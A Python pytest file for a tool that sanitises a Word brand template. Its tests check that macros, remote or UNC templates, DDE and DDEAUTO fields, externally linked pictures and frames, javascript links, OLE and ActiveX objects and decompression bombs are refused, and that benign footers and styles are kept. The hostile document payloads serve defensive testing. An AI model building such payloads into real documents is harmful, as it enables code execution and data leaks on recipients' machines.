"""Of a brand.docx the looks are taken; what leads out of it or runs is refused by its name."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

import docx
import pytest

from tests.support.brands import (
    BRAND,
    DOCUMENT,
    FOOTER,
    SETTINGS,
    TYPES,
    WORD,
    brand,
    field,
    parts_of,
    relation,
    relations,
)
from tests.support.folders import make_folder
from tests.support.making_forms import zipped
from tests.support.work import at_most
from toptips import workflow
from toptips.documents.brand import open_brand, taken_of
from toptips.errors import TemplateError

RELS, FOOTER_RELS = "word/_rels/document.xml.rels", "word/_rels/footer1.xml.rels"
OVERRIDE = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.{}"/>'
A_W = "http://schemas.openxmlformats.org/drawingml/2006/main"


def png(width: int, height: int) -> bytes:
    """A picture that says it is that large; its dots are few."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">L", zlib.crc32(kind + data))
        return struct.pack(">L", len(data)) + kind + data + check

    head = chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def simple(instruction: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instruction}"/></w:p>'


def picture(attribute: str = "r:embed") -> str:
    return (
        f'<w:p><w:r><w:drawing><a:blip xmlns:a="{A_W}" xmlns:r="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships" {attribute}="rId99"/></w:drawing></w:r></w:p>'
    )


# What is put into which parts, and what the refusal says.
HOSTILE = {
    "remote template": ({}, {"word/_rels/settings.xml.rels": relations(
        relation("attachedTemplate", "http://192.0.2.1/a.dotm"))}, "another template (http://192"),
    "template on a share": ({}, {"word/_rels/settings.xml.rels": relations(
        relation("attachedTemplate", "\\\\192.0.2.1\\share\\a.dotm"))}, "another template"),
    "template, not said to be outside": ({}, {"word/_rels/settings.xml.rels": relations(
        relation("attachedTemplate", "file:///C:/a.dotm", outside=False))}, "another template"),
    "macro": ({RELS: relation("vbaProject", "vbaProject.bin", outside=False),
               TYPES: '<Default Extension="bin" ContentType="application/octet-stream"/>'},
              {"word/vbaProject.bin": b"x"}, "holds a macro"),
    "macro by another name": ({RELS: relation("vbaProject", "a.xml", outside=False)},
                              {"word/a.xml": b"<a/>"}, "holds a macro"),
    "macro by its type": ({TYPES: OVERRIDE.format("vbaProject")}, {}, "holds a macro"),
    "docm": ({TYPES: '<Override PartName="/word/b.xml" ContentType="application/vnd.ms-word'
              '.document.macroEnabled.main+xml"/>'}, {}, "holds a macro"),
    "DDEAUTO": ({FOOTER: field(' DDEAUTO c:\\\\a.exe "/k b" ')}, {}, "the field DDEAUTO"),
    "DDE, cut up": ({FOOTER: field(" D", "D", "e ", " x")}, {}, "the field DDE"),
    "DDE, simple": ({FOOTER: simple(" dde x")}, {}, "the field DDE"),
    "DDE in a field": ({FOOTER: field(" PAGE ").replace("<w:t>1", field("DDE x") + "<w:t>1")},
                       {}, "the field DDE"),
    "DDE that is never ended": ({FOOTER: field("DDE x").replace('w:fldCharType="end"', "")}, {},
                                "the field DDE"),
    "DDE deleted": ({FOOTER: field("DDE x").replace("instrText", "delInstrText")}, {}, "field DDE"),
    "DDE in the text": ({DOCUMENT: field("DDEAUTO x")}, {}, "the field DDEAUTO"),
    "DDE in a style": ({"word/styles.xml": field("DDEAUTO x")}, {}, "the field DDEAUTO"),
    "DDE in another standard": ({FOOTER: field("DDE x").replace(
        "<w:p>", '<w:p xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main">')}, {}, "DDE"),
    "INCLUDEPICTURE": ({FOOTER: field('INCLUDEPICTURE "http://192.0.2.1/"')}, {}, "INCLUDEPICTURE"),
    "IF": ({FOOTER: field("IF 1 = 1 x y")}, {}, "the field IF"),
    "no name": ({FOOTER: field("  ")}, {}, "a field without a name"),
    "formula": ({FOOTER: field("= 1 + 1")}, {}, "the field ="),
    "file frame": ({}, {"word/_rels/webSettings.xml.rels": relations(
        relation("frame", "file://192.0.2.1/a.htm"))}, "a frame (file://192.0.2.1/a.htm)"),
    "linked picture": ({FOOTER: picture("r:link")}, {FOOTER_RELS: relations(
        relation("image", "http://192.0.2.1/a.png"))}, "a link to http://192.0.2.1/a.png"),
    "picture by its address": ({FOOTER: '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-'
        'microsoft-com:vml" src="file://192.0.2.1/a.png"/></w:pict></w:r></w:p>'}, {}, "to file:"),
    "link to a file": ({}, {FOOTER_RELS: relations(
        relation("hyperlink", "file:///C:/a.exe"))}, "a link to file:///C:/a.exe"),
    "link to a script": ({}, {FOOTER_RELS: relations(
        relation("hyperlink", "javascript:alert(1)"))}, "a link to javascript"),
    "mail merge": ({}, {"word/_rels/settings.xml.rels": relations(
        relation("mailMergeSource", "file:///a.csv"))}, "a link to file:///a.csv"),
    "link from the top": ({"_rels/.rels": relation("a", "http://192.0.2.1/")}, {}, "a link to"),
    "embedded object": ({RELS: relation("oleObject", "o.bin", outside=False)}, {}, "an embedded"),
    "embedded by its place": ({}, {"word/embeddings/oleObject1.bin": b"x"}, "an embedded object"),
    "linked object": ({RELS: relation("oleObject", "file:///a.xls")}, {}, "an embedded object"),
    "object in the footer": ({FOOTER: '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-micro'
                             'soft-com:office:office"/></w:object></w:r></w:p>'}, {}, "embedded"),
    "footer elsewhere": ({RELS: relation("footer", "../a/f.xml", outside=False)}, {"a/f.xml":
        f"<w:ftr {WORD}>{field('DDE x')}</w:ftr>".encode()}, "the field DDE"),
    "altChunk": ({DOCUMENT: "<w:altChunk/>"}, {}, "another document (altChunk)"),
    "altChunk's part": ({RELS: relation("aFChunk", "a.html", outside=False)}, {}, "altChunk"),
    "ActiveX": ({}, {"word/activeX/activeX1.xml": b"<a/>"}, "an embedded object"),
    "SmartArt": ({FOOTER: picture("r:dm")}, {FOOTER_RELS: relations(
        relation("diagramData", "styles.xml", outside=False))}, "more than text and pictures"),
    "picture that is none": ({FOOTER: picture()}, {FOOTER_RELS: relations(
        relation("image", "media/a.png", outside=False)), "word/media/a.png": b"MZ"}, "a kind"),
    "huge picture": ({FOOTER: picture()}, {FOOTER_RELS: relations(
        relation("image", "media/a.png", outside=False)), "word/media/a.png": png(60_000, 60_000)},
        "3,600 million dots"),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_what_leads_out_or_runs_is_refused_by_its_name(tmp_path: Path, case: str) -> None:
    put, parts, said = HOSTILE[case]
    with pytest.raises(TemplateError) as refused:
        open_brand(brand(tmp_path, put=put, parts=parts))
    assert str(refused.value).startswith("brand.docx holds ")
    assert said in str(refused.value)
    assert "\n" not in str(refused.value)


@pytest.mark.parametrize("case", ["remote template", "DDEAUTO", "file frame", "macro"])
def test_without_this_wall_it_goes_into_documents(tmp_path: Path, case: str) -> None:
    """As python-docx opens and saves a brand, all of it goes along."""
    put, parts, _ = HOSTILE[case]
    path = brand(tmp_path, put=put, parts=parts)
    document = docx.Document(str(path))
    document.save(str(tmp_path / "sent.docx"))
    held = b"".join(parts_of((tmp_path / "sent.docx").read_bytes()).values())
    assert {"remote template": b"192.0.2.1/a.dotm", "DDEAUTO": b"DDEAUTO", "macro": b"vbaProject",
            "file frame": b"192.0.2.1/a.htm"}[case] in held  # fmt: skip


def test_no_command_sends_such_a_brand(tmp_path: Path) -> None:
    folder = make_folder(tmp_path / "w")
    (folder / "templates").mkdir()
    put, parts, said = HOSTILE["DDEAUTO"]
    brand(folder / "templates", put=put, parts=parts)
    with pytest.raises(TemplateError, match=said):
        workflow.prepare(folder)
    assert not (folder / "pack").exists()


@pytest.mark.parametrize("code", ["PAGE", " page \\* MERGEFORMAT ", "NUMPAGES", "SECTIONPAGES",
    'DATE \\@ "d MMMM yyyy"', 'STYLEREF "Heading 1"', "TITLE"])  # fmt: skip
def test_fields_of_headers_and_footers_are_kept(tmp_path: Path, code: str) -> None:
    document = open_brand(brand(tmp_path, put={FOOTER: field(code.replace('"', "&quot;"))}))
    assert code in document.sections[0].first_page_footer._element.xml.replace("&quot;", '"')


def test_pictures_and_links_of_a_footer_are_kept(tmp_path: Path) -> None:
    link = picture("r:embed") + '<w:p><w:hyperlink r:id="rId98" xmlns:r="{}"/></w:p>'.format(
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    )
    path = brand(
        tmp_path,
        put={FOOTER: link, TYPES: '<Default Extension="png" ContentType="image/png"/>'},
        parts={
            FOOTER_RELS: relations(
                relation("image", "media/logo.png", outside=False),
                relation("hyperlink", "https://example.org/", name="rId98"),
            ),
            "word/media/logo.png": png(20, 10),
        },
    )
    footer = open_brand(path).sections[0].first_page_footer.part
    assert footer.related_parts["rId99"].blob == png(20, 10)
    assert footer.rels["rId98"].target_ref == "https://example.org/"


def test_what_is_not_looks_stays_behind(tmp_path: Path) -> None:
    secret = b"<a>secret</a>"
    path = brand(
        tmp_path,
        put={
            DOCUMENT: "",
            SETTINGS: '<w:documentProtection w:edit="readOnly" w:enforcement="1"/><w:docVars/>',
            RELS: relation("comments", "comments.xml", outside=False),
        },
        parts={
            "word/comments.xml": secret,
            "docProps/custom.xml": secret,
            "customUI/a.xml": secret,
        },
    )
    taken = parts_of(taken_of(path.read_bytes()))
    assert not any(b"secret" in part for part in taken.values())
    assert b"documentProtection" not in taken["word/settings.xml"]
    assert b"docVars" not in taken["word/settings.xml"]
    assert b"themeFontLang" in taken["word/settings.xml"]
    kinds = {name.removeprefix("word/").split(".")[0].rstrip("0123456789") for name in taken}
    assert kinds == {
        "_rels/", "[Content_Types]", "_rels/document", "document", "styles", "numbering",
        "theme/theme", "fontTable", "settings", "header", "footer",
    }  # fmt: skip


def test_the_brand_that_ships_is_taken_whole() -> None:
    before, after = parts_of(BRAND.read_bytes()), parts_of(taken_of(BRAND.read_bytes()))
    count = before["word/styles.xml"].count(b"<w:style ")
    assert count > 30
    assert after["word/styles.xml"].count(b"<w:style ") == count
    document = open_brand(BRAND)
    assert document.sections[0].page_width == docx.Document(str(BRAND)).sections[0].page_width
    assert "PAGE" in document.sections[0].footer._element.xml


def bomb() -> bytes:
    parts = parts_of(BRAND.read_bytes())
    parts["word/styles.xml"] = b"<w:styles>" + b" " * 300_000_000 + b"</w:styles>"
    return zipped(parts)


@pytest.mark.parametrize(
    "data",
    [
        b"", b"PK\x03\x04", b"no Word document", BRAND.read_bytes()[:9000],
        zipped({"a.txt": b"a"}), zipped({**parts_of(BRAND.read_bytes()), DOCUMENT: b"<w:doc"}),
        zipped({**parts_of(BRAND.read_bytes()), DOCUMENT: b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
        zipped({f"word/{number}.xml": b"<a/>" for number in range(3000)}),
    ],
    ids=["empty", "begun", "text", "cut off", "other zip", "damaged", "definitions", "many parts"],
)  # fmt: skip
def test_a_damaged_one_is_refused_in_a_line(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "brand.docx"
    path.write_bytes(data)
    with pytest.raises(TemplateError, match="save it from Word as") as refused:
        open_brand(path)
    assert "\n" not in str(refused.value)


def test_a_bomb_is_refused_in_a_line_and_at_once(tmp_path: Path) -> None:
    path = tmp_path / "brand.docx"
    path.write_bytes(bomb())
    with at_most(3), pytest.raises(TemplateError, match="save it from Word as") as refused:
        open_brand(path)
    assert "\n" not in str(refused.value)


def test_a_file_as_large_as_a_film_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "brand.docx"
    with path.open("wb") as file:
        file.truncate(1 << 32)
    with pytest.raises(TemplateError, match="larger than 20 MB"):
        open_brand(path)
